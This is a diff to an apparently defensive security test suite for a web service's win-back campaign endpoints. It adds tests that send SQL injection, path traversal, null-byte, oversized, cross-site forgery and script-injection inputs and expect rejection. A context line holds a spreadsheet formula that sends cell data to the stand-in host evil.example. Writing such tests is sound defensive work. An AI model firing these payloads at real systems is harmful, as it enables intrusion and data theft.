@@ -16,6 +16,7 @@ from attacks_wire import Answer, ask, raw
 from serving.locks.keys import Keys
 
 HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"C")<script>alert(\'x\')</script>'
+EVIL = "https://evil.example"
 JSON = {"Content-Type": "application/json"}
 MB = 2**20
 SQL = (
@@ -97,6 +98,7 @@ def with_keys(target: Target, keys: Keys) -> list[Row]:
         *bodies(target),
         *numbers(target),
         *lists(target),
+        *campaigns(target),
         *doors(target, keys),
         *headers(target),
         *crowds(target),
@@ -174,6 +176,61 @@ def lists(target: Target) -> Iterator[Row]:
     yield row("a cursor without a key", target.get(f"/at-risk?cursor={cursor}", ""), is_(401))
     for forged in ("99-1", "1-99999999999", "-1-1", "1-1;--", "1", "1-1-1", "%00", "01-01"):
         yield row(f"a forged cursor: {forged}", target.get(f"/at-risk?cursor={quote(forged)}", "retention"))
+
+
+def campaigns(target: Target) -> Iterator[Row]:
+    """Plans are kept, so what goes wrong must go wrong before one is."""
+    for budget in (b"NaN", b"-1", b"1e999", b'"2000; DROP TABLE plans"', b"[[]]", b"null"):
+        body = b'{"name": "spring", "keep": true, "budget": ' + budget + b"}"
+        yield row(f"a budget of {budget[:12].decode()}", target.post("/winback/plans", body, "marketing"))
+    long = json.dumps({"budget": 1, "keep": True, "name": "x" * 100_000}).encode()
+    yield row("a campaign's name of 100,000 characters", target.post("/winback/plans", long, "marketing"))
+    for plan in ("0", "-1", "9" * 30, "1;--", "1%20OR%201=1", "..%2f..%2fscores", "%00", "1e0", "٣"):
+        path = f"/winback/plans/{quote(plan, safe='%')}"
+        yield row(f"a plan {plan}", target.get(path, "marketing"))
+        yield row(f"a plan {plan} approved", target.post(f"{path}/approve", b"", "marketing"))
+    for query in ("offset=-1", "offset=1e99", "format=exe", "limit=99999999999", "offset=1;--"):
+        yield row(f"rows with {query}", target.get(f"/winback/plans/1/rows?{query}", "marketing"))
+    for role, act in (
+        ("retention", "approve"),
+        ("data-science", "approve"),
+        ("retention", "export"),
+        ("data-science", "resend"),
+        ("", "export"),
+    ):
+        answer = target.post(f"/winback/plans/1/{act}", b"{}", role)
+        yield row(f"{role or 'nobody'} asks to {act}", answer, is_(403 if role else 401))
+    yield row(
+        "data science asks whom a plan names", target.get("/winback/plans/1/rows", "data-science"), is_(403)
+    )
+    yield from forms(target)
+
+
+def forms(target: Target) -> Iterator[Row]:
+    """What a browser of somebody signed in may be led to send."""
+    own = {"Origin": "http://localhost", "Content-Type": "application/x-www-form-urlencoded"}
+    key = f"key={target.keys['marketing']}".encode()
+    yield row("a sign-in sent by another site", target.post("/pages/sign-in", key, "", Origin=EVIL), is_(403))
+    session = target.post("/pages/sign-in", key, "", **own).headers.get("set-cookie", "").partition(";")[0]
+    signed = own | {"Cookie": session}
+    for act in ("approve", "export", "resend"):
+        path = f"/pages/campaigns/1/{act}"
+        answer = target.post(path, b"", "", **signed | {"Origin": EVIL})
+        yield row(f"{act}, sent by another site", answer, is_(403))
+        answer = target.post(path, b"", "", **own | {"Cookie": session, "Sec-Fetch-Site": "cross-site"})
+        yield row(f"{act}, led to by another site", answer, is_(403))
+        yield row(f"{act} without a session", target.post(path, b"", "", **own), is_(401))
+    planned = "/pages/campaigns"
+    script = b"budget=%3Cscript%3Ealert(1)%3C/script%3E&name=%3Cscript%3Ealert(1)%3C/script%3E"
+    yield row(
+        "a form of markup",
+        target.post(planned, script, "", **signed),
+        lambda a: "<script>alert" not in a.says,
+    )
+    yield row("a form of 1 MB", target.post(planned, b"a=" + b"x" * MB, "", **signed), is_(413))
+    yield row(
+        "a form that isn't UTF-8", target.post(planned, b"budget=\xff%ff%00", "", **signed), is_(200, 422)
+    )
 
 
 def runs_nothing(answer: Answer) -> bool:
